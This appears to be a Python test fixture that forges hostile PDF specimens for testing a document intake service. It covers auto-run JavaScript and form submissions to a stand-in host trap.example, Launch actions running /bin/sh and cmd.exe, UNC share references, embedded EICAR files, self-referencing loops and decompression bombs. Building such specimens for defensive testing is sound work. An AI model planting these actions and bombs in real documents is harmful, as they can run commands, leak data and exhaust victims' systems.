"""PDFs that want to act, that turn in circles, that never end, or that are locked."""

from __future__ import annotations

import hashlib
import zlib
from collections.abc import Iterator

from storage.intake import PDF
from tests.hostile import honest
from tests.hostile.forging import A4, CATALOGUE, ONE_KID, flate, pdf, pdf_page, stream
from tests.hostile.specimen import EICAR, MARK, SCRIPT, Fate, Specimen


def _one(kind: str, name: str, data: bytes, fate: Fate) -> Specimen:
    return Specimen(kind, f"{name}.pdf", data, fate, PDF)


def active() -> Iterator[Specimen]:
    """Actions are not carried out and drawn pages hold none: all of these are honest enough to show."""
    words, trap = honest.words(), b"(https://trap.example/" + MARK + b")"
    script = b"<</S/JavaScript/JS(app.launchURL" + trap + b")>>"
    launch = b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>"
    for name, catalogue in {
        "javascript": b"/OpenAction" + script,
        "javascript-by-name": b"/Names<</JavaScript<</Names[(a)" + script + b"]>>>>",
        "launch": b"/OpenAction" + launch,
        "address": b"/OpenAction<</S/URI/URI" + trap + b">>",
        "other-file": b"/OpenAction<</S/GoToR/F(\\\\\\\\trap.example\\\\share\\\\x.pdf)/D[0/Fit]>>",
        "send-form": b"/OpenAction<</S/SubmitForm/F<</FS/URL/F" + trap + b">>>>",
        "when-closed": b"/AA<</WC" + script + b"/WP" + script + b">>",
        "embedded": b"/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>]>>>>",
        "xfa": b"/AcroForm<</Fields[]/XFA 6 0 R>>",
        "form-field": b"/AcroForm<</NeedAppearances true/Fields[6 0 R]/CO[6 0 R]>>",
        "words": b"/Metadata 6 0 R/Lang(" + MARK + b")",
    }.items():
        inside = stream(EICAR + SCRIPT, b"/Type/EmbeddedFile")
        yield _one("pdf-active", name, pdf_page(words, inside, catalogue=catalogue), "accept")
    for name, note in {
        "link": b"<</Type/Annot/Subtype/Link/Rect[0 0 600 800]/A<</S/URI/URI" + trap + b">>>>",
        "button": b"<</Type/Annot/Subtype/Widget/FT/Btn/T(x)/Rect[0 0 600 800]/A" + script + b">>",
        "film": b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 600 800]/RichMediaContent<<>>>>",
        "attachment": b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(a.exe)>>>>",
    }.items():
        page = b"/Annots[" + note + b"]/AA<</O" + launch + b">>"
        yield _one("pdf-active", f"note-{name}", pdf_page(words, page=page), "accept")


def locked() -> Iterator[Specimen]:
    yield _one("pdf-locked", "password", _encrypted(b"secret"), "refuse")
    yield _one("pdf-locked", "only-against-changes", _encrypted(b""), "accept")
    junk = b"/Encrypt<</Filter/Standard/V 1/R 2/P -4/Length 40/O(%s)/U(%s)>>/ID[(a)(a)]" % (
        b"o" * 32,
        b"u" * 32,
    )
    yield _one("pdf-locked", "junk", pdf_page(honest.words(), trailer=junk), "refuse")
    own = b"/Encrypt<</Filter/OfOurOwn/V 9/R 99>>/ID[(a)(a)]"
    yield _one("pdf-locked", "handler-unknown", pdf_page(honest.words(), trailer=own), "refuse")
    loop = b"/Encrypt 6 0 R/ID[(a)(a)]"
    yield _one(
        "pdf-locked", "dictionary-of-itself", pdf_page(honest.words(), b"6 0 R", trailer=loop), "either"
    )


_PAD = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")


def _encrypted(password: bytes) -> bytes:
    """A page under the standard handler with RC4 of 40 bits (ISO 32000-1, 7.6.3)."""
    name, rights = b"0123456789abcdef", -4
    user = (password + _PAD)[:32]
    owner = _rc4(_md5((b"of the owner" + _PAD)[:32])[:5], user)
    key = _md5(user + owner + rights.to_bytes(4, "little", signed=True) + name)[:5]
    content = b"BT /F1 16 Tf 24 TL 72 740 Td " + b"(an entry of the register) ' " * 25 + b"ET"
    hidden = _rc4(_md5(key + (4).to_bytes(3, "little") + b"\x00\x00")[:10], content)
    lock = b"/Encrypt<</Filter/Standard/V 1/R 2/P %d/O<%s>/U<%s>>>/ID[<%s><%s>]" % (
        rights,
        owner.hex().encode(),
        _rc4(key, _PAD).hex().encode(),
        name.hex().encode(),
        name.hex().encode(),
    )
    return pdf_page(stream(hidden), trailer=lock)


def _md5(data: bytes) -> bytes:
    return hashlib.md5(data, usedforsecurity=False).digest()


def _rc4(key: bytes, data: bytes) -> bytes:
    box, j, out = list(range(256)), 0, bytearray()
    for i in range(256):
        j = (j + box[i] + key[i % len(key)]) & 255
        box[i], box[j] = box[j], box[i]
    i = j = 0
    for byte in data:
        i = (i + 1) & 255
        j = (j + box[i]) & 255
        box[i], box[j] = box[j], box[i]
        out.append(byte ^ box[(box[i] + box[j]) & 255])
    return bytes(out)


def circles() -> Iterator[Specimen]:
    words, draws = honest.words(), honest.words(b"/X Do\n")
    sheet = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X 6 0 R>>/ExtGState<</G 7 0 R>>>>"
    whole = pdf_page(words)
    table = whole.rindex(b"xref\n0")
    mask = b"<</SMask<</S/Luminosity/G 6 0 R>>>>"
    letter = b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 65/LastChar 65/Widths[9]"
    letter += b"/Encoding<</Differences[65/a]>>/CharProcs<</a 4 0 R>>/Resources<</Font<</F1 5 0 R>>>>>>"
    for name, data in {
        "table-before-itself": pdf_page(words, trailer=b"/Prev %d" % table),
        "table-that-is-none": whole[:table] + b"xref\n0 4000000000\n" + whole[table:],
        "table-nowhere": whole.replace(b"startxref\n%d" % table, b"startxref\n99999999999"),
        "no-table": whole[:table],
        "pages-of-themselves": pdf(CATALOGUE, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"),
        "pages-in-a-ring": pdf(
            CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>"
        ),
        "page-its-own-parent": pdf(CATALOGUE, ONE_KID, b"<</Type/Page/Parent 3 0 R/Contents 4 0 R>>", words),
        "catalogue-of-itself": pdf(b"1 0 R"),
        "length-of-itself": pdf(CATALOGUE, ONE_KID, sheet, b"<</Length 4 0 R>>stream\nq Q\nendstream"),
        "form-in-itself": pdf_page(draws, stream(b"/X Do /X Do\n", form)),
        "mask-of-itself": pdf_page(
            draws, stream(b"/G gs /X Do\n", form + b"/Group<</S/Transparency>>"), mask
        ),
        "letter-of-itself": pdf(
            CATALOGUE,
            ONE_KID,
            sheet[:-2] + b"/Resources<</Font<</F1 5 0 R>>>>>>",
            stream(b"BT /F1 9 Tf (AAAA) Tj ET"),
            letter,
        ),
        "content-a-thousand-times": pdf_page(words).replace(
            b"/Contents 4 0 R", b"/Contents[" + b"4 0 R " * 1000 + b"]"
        ),
        "objects-in-themselves": pdf(
            CATALOGUE,
            ONE_KID,
            sheet,
            b"<</Type/ObjStm/N 1/First 4/Extends 4 0 R/Length 4>>stream\n4 0 \nendstream",
        ),
    }.items():
        yield _one("pdf-loop", name, data, "either")
    for name, value in (
        ("arrays", b"[" * 100_000),
        ("dictionaries", b"<</a" * 100_000),
        ("brackets", b"(" * 100_000),
    ):
        yield _one("pdf-loop", f"deep-{name}", pdf_page(words, value), "either")


def boxes() -> Iterator[Specimen]:
    words = honest.words()
    for name, box, fate in (
        ("2000000-points", b"0 0 2000000 1500000", "accept"),
        ("six-points", b"0 0 6 5", "either"),
        ("no-points", b"0 0 0 0", "either"),
        ("turned-over", b"595 842 0 0", "either"),
        ("not-numbers", b"nan inf /a (b)", "either"),
        ("1e38", b"-1e38 -1e38 1e38 1e38", "either"),
        ("a-strip", b"0 0 2000000 1", "refuse"),
        ("too-few", b"0 0", "either"),
    ):
        yield _one("pdf-box", name, pdf_page(words, box=box), fate)  # type: ignore[arg-type]
    for turn in (b"90", b"-90", b"45", b"2147483647"):
        yield _one(
            "pdf-box", f"turned-by-{turn.decode()}", pdf_page(words, page=b"/Rotate " + turn), "either"
        )
    yield _one("pdf-box", "unit-of-1000000", pdf_page(words, page=b"/UserUnit 1000000"), "either")


def pages() -> Iterator[Specimen]:
    for count in (21, 5000):
        yield _one("pdf-pages", f"{count}", _book(count, count), "refuse")
    yield _one("pdf-pages", "two", _book(2, 2), "accept")
    for count, said in ((1, 2_000_000_000), (1, -5), (3, 1), (1, 20)):
        yield _one("pdf-pages", f"{count}-said-to-be-{said}", _book(count, said), "either")
    yield _one("pdf-pages", "none", _book(0, 0), "refuse")


def _book(count: int, said: int) -> bytes:
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[%s]>>" % A4
    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(count))
    return pdf(CATALOGUE, b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, said), *[leaf] * count)


def endless() -> Iterator[Specimen]:
    """Small files with days of work in them; the first runs into the limit of time."""
    circle = b"0 0 1 rg 0 0 m 500 900 900 100 595 842 c 10 700 500 10 3 3 c f* "
    yield _one("pdf-endless", "operators", pdf_page(flate(circle * 270_000)), "refuse")
    page = honest.words(b"q 595 0 0 842 0 0 cm /X Do Q\n")
    picture = b"/Type/XObject/Subtype/Image/Width 50000/Height 50000/BitsPerComponent 8/ColorSpace/DeviceRGB"
    yield _one(
        "pdf-endless", "picture-of-50000-squared", pdf_page(page, flate(bytes(1 << 24), picture)), "either"
    )
    for name, coder in (
        ("jpeg2000", b"/JPXDecode"),
        ("jbig2", b"/JBIG2Decode"),
        ("fax", b"/CCITTFaxDecode"),
        ("jpeg", b"/DCTDecode"),
    ):
        yield _one(
            "pdf-endless",
            f"{name}-that-is-none",
            pdf_page(page, stream(MARK * 50, picture + b"/Filter" + coder)),
            "either",
        )
    yield _one("pdf-endless", "blanks", pdf_page(flate(b" " * (64 << 20))), "either")
    packed = b"q Q " * 100_000
    for _ in range(12):
        packed = zlib.compress(packed, 9)
    chain = stream(packed, b"/Filter[" + b"/FlateDecode" * 12 + b"]")
    yield _one("pdf-endless", "packed-twelve-times", pdf_page(chain), "either")
    yield _one("pdf-endless", "states", pdf_page(flate(b"q " * 2_000_000)), "either")
    grain = (
        b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .2/YStep .2/Resources<<>>"
    )
    tiles = honest.words(b"/Pattern cs /P scn 0 0 595 842 re f\n")
    yield _one("pdf-endless", "grains", pdf_page(tiles, stream(b"0 0 1 1 re f", grain)), "either")
